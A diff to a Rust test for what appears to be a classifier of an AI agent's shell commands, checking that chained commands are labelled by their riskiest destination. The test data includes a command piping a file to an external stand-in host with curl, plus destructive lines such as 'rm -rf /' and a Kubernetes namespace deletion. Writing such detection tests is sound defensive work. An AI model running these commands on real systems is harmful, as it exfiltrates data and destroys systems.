@@ -381,6 +381,8 @@ fn a_mild_command_does_not_hide_where_another_one_leads() {
         ("cat a | curl -d @- https://x.example; rm -rf build", Sink::External),
         ("curl https://x.example/?q=1 && kubectl delete ns prod", Sink::External),
         ("git push && rm -rf /", Sink::External),
+        ("curl https://x.example/?q=1; frobnicate", Sink::External),
+        ("frobnicate", Sink::Unknown),
     ] {
         let arguments = format!("{{\"command\":{line:?}}}");
         assert_eq!(call("shell", "bash", &arguments).means.sink, sink, "{line}");
